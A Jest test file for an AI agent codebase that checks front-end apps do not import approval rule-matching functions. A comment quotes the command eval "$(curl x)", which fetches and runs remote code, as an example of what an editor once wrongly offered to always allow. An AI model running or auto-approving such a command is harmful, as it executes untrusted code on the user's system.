import fs from 'node:fs';
import path from 'node:path';
import ts from 'typescript';

const ROOT = path.resolve(__dirname, '../../..');

/**
 * What an approval offers is computed once, below the front ends (`approvalChoices`,
 * `decisionFor`, `coverWaiting` in @agent/tools): an app that suggested or matched rules itself
 * could offer an "always" the others do not (the editor once offered "Always allow run_shell"
 * for `eval "$(curl x)"`).
 */
const RULE_POLICY = new Set([
  'suggestRule',
  'ruleReach',
  'ruleCovers',
  'suggestedWords',
  'uncoveredBy',
  'decideByRules',
  'patternWords',
  'allowCovers',
  'wordsAsPattern',
]);

function sourceFiles(dir: string): string[] {
  return fs.readdirSync(dir, { withFileTypes: true }).flatMap((entry) => {
    const full = path.join(dir, entry.name);
    if (entry.isDirectory()) return sourceFiles(full);
    return /\.tsx?$/.test(entry.name) && !/\.test\.tsx?$/.test(entry.name) ? [full] : [];
  });
}

/** The names a file imports (or requires by destructuring) from an @agent/* package. */
function agentImports(file: string): string[] {
  const source = ts.createSourceFile(file, fs.readFileSync(file, 'utf8'), ts.ScriptTarget.Latest);
  const names: string[] = [];
  const visit = (node: ts.Node): void => {
    if (
      ts.isImportDeclaration(node) &&
      ts.isStringLiteral(node.moduleSpecifier) &&
      node.moduleSpecifier.text.startsWith('@agent/')
    ) {
      const bindings = node.importClause?.namedBindings;
      if (bindings && ts.isNamedImports(bindings)) {
        for (const element of bindings.elements) {
          names.push((element.propertyName ?? element.name).text);
        }
      }
    }
    if (ts.isPropertyAccessExpression(node)) names.push(node.name.text);
    ts.forEachChild(node, visit);
  };
  visit(source);
  return names;
}

describe('the front ends draw approvals; they compute none', () => {
  it('no app imports a rule-suggestion or rule-matching function', () => {
    const apps = fs.readdirSync(path.join(ROOT, 'apps'));
    const found: string[] = [];
    for (const app of apps) {
      const src = path.join(ROOT, 'apps', app, 'src');
      if (!fs.existsSync(src)) continue;
      for (const file of sourceFiles(src)) {
        for (const name of agentImports(file)) {
          if (RULE_POLICY.has(name)) found.push(`${path.relative(ROOT, file)}: ${name}`);
        }
      }
    }
    expect(apps.length).toBeGreaterThanOrEqual(3);
    expect(found).toEqual([]);
  });
});
